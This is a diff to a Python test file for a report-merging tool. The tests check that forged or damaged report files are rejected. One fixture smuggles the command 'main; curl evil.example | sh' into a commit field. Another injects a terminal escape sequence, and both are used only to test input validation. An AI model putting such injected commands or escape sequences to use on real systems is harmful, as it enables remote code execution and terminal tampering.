@@ -19,6 +19,7 @@ from pathlib import Path
 
 import pytest
 
+from pytest_chunkrecall import __version__
 from pytest_chunkrecall.evaluation.results import CaseResult
 
 from .conftest import POLICIES, QUIET, assert_no_internals
@@ -310,6 +311,22 @@ def forged(
     data.update(top or {})
     text = json.dumps(data)
     return text.replace('"line": 2', f'"line": {raw}') if raw else text
+
+
+def with_top(entries: list[object], **top: object) -> str:
+    """A one-case report whose case's ``top`` (the chunks it got back) is ``entries``."""
+    data = json.loads(forged(top=top))
+    data["cases"][0]["top"] = entries
+    return json.dumps(data)
+
+
+def made(commit: str | None, version: str = __version__, **case: object) -> str:
+    """A one-case report that says it was run from ``commit`` with pytest-chunkrecall ``version``."""
+    return forged(top={"source": {"version": version, "commit": commit}}, **case)
+
+
+OTHER_CASE = {"nodeid": "gold/a.yaml::restocking", "id": "restocking"}
+ESCAPE = "\x1b]0;pwned\x07\x1b[2J"  # a terminal title, then a cleared screen
 
 
 TWO_HITS = json.dumps(
@@ -1156,12 +1173,68 @@ ROWS: dict[str, Row] = {
         status=2,
         says="belongs to the gold file 'gold/a.yaml', which is not among the report's",
     ),
+    "merge: a shard with no source": Row(
+        {"r.report": forged()},
+        args=MERGE,
+        command=True,
+        status=2,
+        says="r.report has no 'source' (the version and commit it was run from)",
+    ),
+    "merge: a forged commit beside a null one": Row(
+        {"r.report": made(None), "r2.report": made("main; curl evil.example | sh", **OTHER_CASE)},
+        args=("merge", "r.report", "r2.report", "--out", "m.json"),
+        command=True,
+        status=2,
+        says="r2.report is damaged: the commit of 'source' is 'main; curl evil.example | sh'; "
+        "it must be a git commit id (40 to 64 hexadecimal digits) or null",
+    ),
+    "merge: a forged version with control characters": Row(
+        {"r.report": made(None), "r2.report": made(None, f"9.9{ESCAPE}", **OTHER_CASE)},
+        args=("merge", "r.report", "r2.report", "--out", "m.json"),
+        command=True,
+        status=2,
+        says="r2.report is damaged: the version of 'source' is '9.9\\x1b]0;pwned\\x07",
+        never="\x1b",
+    ),
+    **{
+        f"{command}: a top entry whose doc is a number": Row(
+            {"r.report": with_top([{"doc": 1}]), "b.json": BASELINE},
+            args=(command, *args),
+            command=True,
+            status=2,
+            says=f"{DAMAGED}: 'top' is [{{'doc': 1}}]; it must be a list of the chunks "
+            "the case got back",
+        )
+        for command, args in (
+            ("merge", MERGE[1:]),
+            ("compare", COMPARE[1:]),
+            ("export", ("trec", "r.report", "--out", "trec")),
+        )
+    },
+    "compare: a case id with control characters": Row(
+        {
+            "r.report": forged(nodeid=f"gold/a.yaml::a{ESCAPE}", id=f"a{ESCAPE}"),
+            "b.json": BASELINE,
+        },
+        args=COMPARE,
+        command=True,
+        status=2,
+        says="r.report is damaged: case 1: 'nodeid' is 'gold/a.yaml::a\\x1b]0;pwned",
+        never="\x1b",
+    ),
+    "compare: ranks seen a million times": Row(
+        {"r.report": forged(unstable=True, ranks_seen=[1, None] * 500_000), "b.json": BASELINE},
+        args=COMPARE,
+        command=True,
+        says="(ranks seen 1, missed, 1, missed, 1, missed, 1, missed, 1, missed, 1, missed,",
+        never="1, missed, " * 40,
+    ),
     "merge: an integer of 5,000 digits": Row(
         {"r.report": forged(raw=HUGE)},
         args=MERGE,
         command=True,
         status=2,
-        says="r.report holds a number of 5,000 digits",
+        says="r.report holds a number of 5,000 digits, too long to be part of a chunkrecall report",
     ),
     "compare: an integer of 5,000 digits": Row(
         {"r.report": forged(raw=HUGE), "b.json": BASELINE},
@@ -1175,14 +1248,16 @@ ROWS: dict[str, Row] = {
         args=COMPARE,
         command=True,
         status=2,
-        says="baseline b.json holds a number of 5,000 digits",
+        says="baseline b.json holds a number of 5,000 digits, too long to be part of a baseline",
     ),
     "export: an integer of 5,000 digits": Row(
         {"r.report": forged(raw=HUGE)},
         args=("export", "trec", "r.report", "--out", "trec"),
         command=True,
         status=2,
-        says="r.report: the JSON report holds a number of 5,000 digits",
+        says="r.report holds a number of 5,000 digits, too long to be part of a chunkrecall "
+        "report; give a file written by --chunkrecall-report",
+        never="in quotes",
     ),
     "export: a case with an unknown verdict": Row(
         {"r.report": forged(verdict="pwned")},
